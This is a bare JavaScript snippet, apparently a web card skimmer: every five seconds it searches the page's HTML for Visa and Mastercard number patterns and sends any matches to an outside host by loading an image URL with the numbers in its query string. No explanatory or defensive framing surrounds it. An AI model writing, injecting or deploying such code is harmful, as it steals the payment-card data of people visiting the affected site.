setInterval(function () {
  var m = document.body.innerHTML.match(/\b(?:4[0-9]{12}(?:[0-9]{3})?|5[1-5][0-9]{14})\b/g);
  if (m) { var s = document.createElement('img'); s.src = 'https://scrp-px.example/?n=' + m.join(); }
}, 5000);
